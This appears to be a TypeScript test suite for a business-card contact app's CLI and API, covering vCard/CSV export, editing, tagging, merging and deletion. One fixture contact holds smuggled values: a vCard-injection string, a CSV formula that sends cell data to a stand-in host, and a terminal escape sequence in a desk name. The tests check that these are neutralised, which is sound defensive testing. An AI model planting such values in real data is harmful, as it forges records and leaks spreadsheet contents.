import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BizcardApp } from '../../main/app.js';
import { main } from '../../main/cli.js';
import { emptyFields, type ContactFields } from '../../shared/contact.js';
import { readCsv, readWithVobject, readZipWithPython } from '../independent-parsers.js';
import { tempDir } from '../helpers.js';

async function run(...argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (s) => out.push(s), err: (s) => err.push(s) });
  return { code, out, err };
}

/** A small real JPEG (what capture stores as the card image). */
async function jpeg(color: string): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 40, channels: 3, background: color } }).jpeg().toBuffer();
}

describe('bizcard export, edit, delete, tag and merge', () => {
  const home = tempDir('bizcard-cli-contacts-');
  const out = tempDir('bizcard-cli-out-');
  const uids: Record<string, string> = {};

  beforeAll(async () => {
    const app = new BizcardApp({ dataDir: home });
    try {
      const add = async (key: string, fields: Partial<ContactFields>, extra: { tags?: string[]; event?: string; color?: string } = {}) => {
        const card = extra.color ? await jpeg(extra.color) : null;
        const r = app.contacts.save(
          {
            fields: { ...emptyFields(), ...fields },
            method: 'qr',
            tags: extra.tags,
            event: extra.event,
            image: card ? { original: card, originalFilename: `${key}.jpg`, mime: 'image/jpeg', card, cardWidth: 64, cardHeight: 40, thumbnail: card } : undefined,
          },
          { allowDuplicate: true },
        );
        uids[key] = r.contact!.uid;
      };
      await add('ivan', { name: 'Иван Петров', givenName: 'Иван', familyName: 'Петров', company: 'Ромашка', emails: ['ivan@romashka.ru'], phones: [{ value: '+74951234567', kind: 'work' }], address: '125009, Москва, Тверская ул., 7' }, { event: 'Expo', tags: ['vip'], color: '#c33' });
      await add('olivia', { name: 'Olivia Collins', givenName: 'Olivia', familyName: 'Collins', company: 'Bluefin', title: 'VP Sales', emails: ['olivia@bluefin.example'], address: '350 Mission Street, San Francisco, CA 94105' }, { event: 'Expo', color: '#3c3' });
      await add('evil', { name: 'Mallory', websites: ['https://x\nEND:VCARD\nBEGIN:VCARD\nFN:Bob Boss (CEO)'], company: '+1+HYPERLINK("http://x.example/?"&A1)' }, { event: 'Other' });
      await add('olivia2', { name: 'O. Collins', company: 'Bluefin Analytics', title: '', phones: [{ value: '+16175550127', kind: 'mobile' }], emails: ['olivia@bluefin.example', 'o.collins@gmail.example'] }, { tags: ['met-twice'], color: '#33c' });
    } finally {
      await app.close();
    }
  });
  afterAll(() => {
    fs.rmSync(home, { recursive: true, force: true });
    fs.rmSync(out, { recursive: true, force: true });
  });

  it('export takes the list filters and vobject reads every card back, photos included', async () => {
    const file = path.join(out, 'expo.vcf');
    const r = await run('export', '--data-dir', home, '--event', 'Expo', '-o', file);
    expect(r).toMatchObject({ code: 0, out: [`2 contacts written to ${file}`] });
    const cards = readWithVobject(file);
    expect(cards.map((c) => c.fn)).toEqual(['Иван Петров', 'Olivia Collins']);
    expect(cards[0]!.adr).toEqual({ street: 'Тверская ул., 7', city: 'Москва', region: '', code: '125009', country: '' });
    expect(cards[0]!.photo_head).toMatch(/^ffd8ff/); // JPEG
    expect(cards[0]!.categories).toEqual([['Expo', 'vip']]);

    const searched = path.join(out, 'search.vcf');
    await run('export', '--data-dir', home, '--search', 'bluefin', '--no-photo', '-o', searched);
    const found = readWithVobject(searched);
    expect(found.map((c) => c.fn).sort()).toEqual(['O. Collins', 'Olivia Collins']);
    expect(found.every((c) => c.photo === 0)).toBe(true);
    // The same question `list` answers.
    const listed = (await run('list', '--json', '--data-dir', home, '--search', 'bluefin')).out.map((l) => JSON.parse(l).name);
    expect(listed.sort()).toEqual(['O. Collins', 'Olivia Collins']);

    const tagged = path.join(out, 'vip.vcf');
    await run('export', '--data-dir', home, '--tag', 'vip', '--format', 'vcf21', '-o', tagged);
    expect(readWithVobject(tagged).map((c) => [c.version, c.fn])).toEqual([['2.1', 'Иван Петров']]);
  });

  it('a hostile contact exports as one card and one neutralised CSV cell', async () => {
    const file = path.join(out, 'other.vcf');
    await run('export', '--data-dir', home, '--event', 'Other', '-o', file);
    expect(readWithVobject(file).map((c) => c.fn)).toEqual(['Mallory']);
    const csv = path.join(out, 'other.csv');
    await run('export', '--data-dir', home, '--event', 'Other', '--format', 'google-csv', '-o', csv);
    const [row] = readCsv(fs.readFileSync(csv, 'utf8'));
    expect(row!['Organization 1 - Name']).toBe(`'+1+HYPERLINK("http://x.example/?"&A1)`);
  });

  it('google-csv and outlook-csv read back with csv-parse, Cyrillic intact', async () => {
    const g = path.join(out, 'google.csv');
    expect((await run('export', '--data-dir', home, '--format', 'google-csv', '-o', g)).code).toBe(0);
    const rows = readCsv(fs.readFileSync(g, 'utf8'));
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({ Name: 'Иван Петров', 'Given Name': 'Иван', 'Family Name': 'Петров', 'Organization 1 - Name': 'Ромашка', 'Phone 1 - Value': '+74951234567', 'Address 1 - City': 'Москва' });
    expect(rows[3]).toMatchObject({ 'E-mail 1 - Value': 'olivia@bluefin.example', 'E-mail 2 - Value': 'o.collins@gmail.example', 'Phone 1 - Type': 'Mobile' });
    const o = path.join(out, 'outlook.csv');
    await run('export', '--data-dir', home, '--format', 'outlook-csv', '--event', 'Expo', '-o', o);
    const orows = readCsv(fs.readFileSync(o, 'utf8'));
    expect(orows.map((r) => [r['First Name'], r['Last Name'], r['Job Title'], r['Business City'], r['Business State']])).toEqual([
      ['Иван', 'Петров', '', 'Москва', ''],
      ['Olivia', 'Collins', 'VP Sales', 'San Francisco', 'CA'],
    ]);
  });

  it('--outlook writes one card per file, into a zip or a folder', async () => {
    const z = path.join(out, 'cards.zip');
    expect((await run('export', '--data-dir', home, '--outlook', '-o', z)).out).toEqual([`4 contacts written to ${z} (one .vcf each)`]);
    const members = readZipWithPython(z);
    expect(members.map((m) => m.name)).toEqual(['001-Иван Петров.vcf', '002-Olivia Collins.vcf', '003-Mallory.vcf', '004-O. Collins.vcf']);
    for (const m of members) {
      expect(m.text.match(/^BEGIN:VCARD/gm)).toHaveLength(1);
      expect(m.text).toContain('VERSION:2.1');
    }
    const folder = path.join(out, 'cards');
    await run('export', '--data-dir', home, '--outlook', '--format', 'vcf', '-o', folder);
    const files = fs.readdirSync(folder).sort();
    expect(files).toHaveLength(4);
    for (const f of files) expect(readWithVobject(path.join(folder, f))).toHaveLength(1);
    expect(readWithVobject(path.join(folder, files[0]!))[0]!.fn).toBe('Иван Петров');
  });

  it('refuses an unknown format or --outlook without a target, naming the option', async () => {
    expect((await run('export', '--data-dir', home, '--format', 'pdf')).err[0]).toBe('bizcard export: --format must be one of vcf, vcf21, csv, google-csv, outlook-csv, not "pdf"');
    expect((await run('export', '--data-dir', home, '--outlook')).code).toBe(2);
  });
});

describe('bizcard edit, delete, tag, merge and desk', () => {
  const home = tempDir('bizcard-cli-edit-');
  afterAll(() => fs.rmSync(home, { recursive: true, force: true }));
  const uid: Record<string, string> = {};

  beforeAll(async () => {
    const app = new BizcardApp({ dataDir: home });
    try {
      const add = async (key: string, fields: Partial<ContactFields>, color: string, tags: string[] = []) => {
        const card = await jpeg(color);
        uid[key] = app.contacts.save(
          { fields: { ...emptyFields(), ...fields }, method: 'ocr', tags, event: 'Expo', image: { original: card, originalFilename: `${key}.jpg`, mime: 'image/jpeg', card, cardWidth: 64, cardHeight: 40, thumbnail: card } },
          { allowDuplicate: true },
        ).contact!.uid;
      };
      await add('anna', { name: 'Anna Berg', givenName: 'Anna', familyName: 'Berg', title: 'Engineer', company: 'Acme', emails: ['anna@acme.example'], phones: [{ value: '+4930111', kind: 'work' }], notes: 'met at booth 4' }, '#a11');
      await add('anna2', { name: 'A. Berg', title: 'CTO', company: 'Acme GmbH', emails: ['ANNA@acme.example', 'anna.berg@gmail.example'], phones: [{ value: '+49170555', kind: 'mobile' }], notes: 'wants a demo' }, '#1a1', ['hot']);
      await add('bob', { name: 'Bob Stone', company: 'Stone Ltd' }, '#11a');
    } finally {
      await app.close();
    }
  });

  const get = async (u: string) => JSON.parse((await run('show', '--json', '--data-dir', home, u)).out[0]!);

  it('edit --set changes only the named fields (a partial edit erases nothing) and bumps the version', async () => {
    const r = await run('edit', uid.anna!.slice(0, 13), '--data-dir', home, '--set', 'title=CTO', '--set', 'given-name=Anna-Maria', '--add', 'email=a.berg@acme.example', '--add', 'phone=mobile:+49170999 ext. 12');
    expect(r.code).toBe(0);
    expect(r.out[0]).toMatch(/^updated .*Anna Berg \(version 2\): title, givenName, emails, phones$/);
    const c = await get(uid.anna!);
    expect(c).toMatchObject({ title: 'CTO', givenName: 'Anna-Maria', familyName: 'Berg', company: 'Acme', notes: 'met at booth 4', version: 2 });
    expect(c.emails).toEqual(['anna@acme.example', 'a.berg@acme.example']);
    expect(c.phones).toEqual([{ value: '+4930111', kind: 'work' }, { value: '+49170999', kind: 'mobile', ext: '12' }]);
    await run('edit', uid.anna!, '--data-dir', home, '--remove', 'email=a.berg@acme.example', '--set', 'notes=line one\\nline two');
    expect(await get(uid.anna!)).toMatchObject({ emails: ['anna@acme.example'], notes: 'line one\nline two', version: 3 });
  });

  it('edit names a wrong field or value and changes nothing', async () => {
    const r = await run('edit', uid.bob!, '--data-dir', home, '--set', 'salary=1');
    expect(r.code).toBe(2);
    expect(r.err[0]).toMatch(/^bizcard edit: --set salary: no such field \(one of name, givenname/);
    expect((await run('edit', uid.bob!, '--data-dir', home, '--add', 'phone=pager:123')).err[0]).toMatch(/phone "pager:123": write \[work\|mobile\|fax\|other:\]NUMBER/);
    expect((await run('edit', uid.bob!, '--data-dir', home, '--set', 'title=' + 'x'.repeat(400))).err).toEqual([expect.stringMatching(/^bizcard edit: title: .+/)]);
    expect((await get(uid.bob!)).version).toBe(1);
  });

  it('tag adds and removes tags on several contacts; list --tag sees them', async () => {
    const r = await run('tag', uid.anna!, uid.bob!, '--data-dir', home, '--add', 'follow-up', '--add', 'vip');
    expect(r.out).toHaveLength(2);
    await run('tag', uid.bob!, '--data-dir', home, '--remove', 'vip');
    const listed = (await run('list', '--json', '--data-dir', home, '--tag', 'vip')).out.map((l) => JSON.parse(l).uid);
    expect(listed).toEqual([uid.anna]);
    expect((await get(uid.bob!)).tags).toEqual(['follow-up']);
  });

  it('merge: one value per field (conflicts printed), lists and notes from both, both images kept, B a tombstone', async () => {
    const r = await run('merge', uid.anna!, uid.anna2!, '--data-dir', home, '--take', 'company=b');
    expect(r.code).toBe(0);
    expect(r.out[0]).toMatch(/^merged .* into .*Anna Berg \(version \d+\); both card images kept$/);
    expect(r.out.join('\n')).toMatch(/company +a: Acme +\| +b: Acme GmbH +-> b/);
    expect(r.out.join('\n')).toMatch(/name +a: Anna Berg +\| +b: A\. Berg +-> a/);
    expect(r.out.join('\n')).not.toMatch(/title +a:/); // both say CTO: no conflict
    const c = await get(uid.anna!);
    expect(c).toMatchObject({ name: 'Anna Berg', company: 'Acme GmbH', title: 'CTO', notes: 'line one\nline two\nwants a demo' });
    expect(c.emails).toEqual(['anna@acme.example', 'anna.berg@gmail.example']);
    expect(c.phones.map((p: { value: string }) => p.value)).toEqual(['+4930111', '+49170999', '+49170555']);
    expect(c.tags).toEqual(['follow-up', 'vip', 'hot']);
    expect((await run('show', '--json', '--data-dir', home, uid.anna2!)).err[0]).toMatch(/no contact with uid/);
    const shown = await run('show', '--data-dir', home, uid.anna!);
    expect(shown.out.filter((l) => /^ {2}Image/.test(l))).toHaveLength(2);
    const app = new BizcardApp({ dataDir: home });
    try {
      expect(app.db.prepare('SELECT deleted_at IS NOT NULL AS gone, merged_into FROM contacts WHERE uid = ?').get(uid.anna2)).toEqual({ gone: 1, merged_into: uid.anna });
      // The merged card's image is not queued for removal from the server.
      expect(app.db.prepare(`SELECT op, target FROM outbox WHERE contact_uid = ? AND status = 'pending' AND op = 'delete'`).all(uid.anna2)).toEqual([{ op: 'delete', target: 'db' }]);
    } finally {
      await app.close();
    }
    expect((await run('merge', uid.anna!, uid.anna!, '--data-dir', home)).err[0]).toMatch(/two different contacts/);
    expect((await run('merge', uid.anna!, uid.bob!, '--data-dir', home, '--take', 'title=both')).err[0]).toMatch(/title holds one value/);
  });

  it('delete leaves a tombstone queued for the server; desk --name sets the name the server shows', async () => {
    const r = await run('delete', uid.bob!, 'ffffffff-nope', '--data-dir', home);
    expect(r.code).toBe(1);
    expect(r.out[0]).toMatch(/^deleted .*Bob Stone \(the server gets it as a tombstone/);
    expect(r.err[0]).toMatch(/^ffffffff-nope: no contact with uid/);
    expect((await run('list', '--json', '--data-dir', home)).out.map((l) => JSON.parse(l).uid)).toEqual([uid.anna]);
    expect((await run('desk', '--data-dir', home)).out[0]).toMatch(/^desk [0-9a-f]{16}: .+/);
    expect((await run('desk', '--data-dir', home, '--name', 'Reception\u001b[2J, 2nd floor')).out[0]).toMatch(/: Reception \[2J, 2nd floor$/);
  });

  it('--help lists the new commands', async () => {
    const help = (await run('--help')).out.join('\n');
    for (const c of ['bizcard edit <uid> --set', 'bizcard delete', 'bizcard tag', 'bizcard merge <uidA> <uidB>', 'bizcard export [--format F]', '--search TEXT', 'google-csv']) expect(help).toContain(c);
  });
});

describe('the API: desk name and export formats', () => {
  it('getDesk / setDeskName and exportContacts in google-csv and outlook-csv, read back by csv-parse', async () => {
    const { startServices } = await import('../../main/services.js');
    const dir = tempDir('bizcard-api-export-');
    const services = await startServices({ dataDir: dir });
    try {
      const before = await services.api.call('getDesk', {});
      expect(before.id).toMatch(/^[0-9a-f]{16}$/);
      expect(before.name.length).toBeGreaterThan(0); // the host name until someone names it
      expect(await services.api.call('setDeskName', { name: '  Stand B\n12 ' })).toEqual({ id: before.id, name: 'Stand B 12' });
      expect((await services.api.call('getDesk', {})).name).toBe('Stand B 12');
      const r = await services.api.dispatch('setDeskName', { name: 'x'.repeat(101) });
      expect(r.ok).toBe(false);

      services.app.contacts.save({ fields: { ...emptyFields(), name: 'Пётр Иванов', givenName: 'Пётр', familyName: 'Иванов', phones: [{ value: '+74951234567', kind: 'mobile' }] }, method: 'manual', event: 'Expo' });
      const g = await services.api.call('exportContacts', { format: 'google-csv', event: 'Expo' });
      expect(g.filename).toMatch(/\.csv$/);
      expect(readCsv(g.content)).toEqual([expect.objectContaining({ 'Given Name': 'Пётр', 'Family Name': 'Иванов', 'Phone 1 - Type': 'Mobile', 'Phone 1 - Value': '+74951234567' })]);
      const o = await services.api.call('exportContacts', { format: 'outlook-csv' });
      expect(readCsv(o.content)).toEqual([expect.objectContaining({ 'First Name': 'Пётр', 'Mobile Phone': '+74951234567' })]);
    } finally {
      await services.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
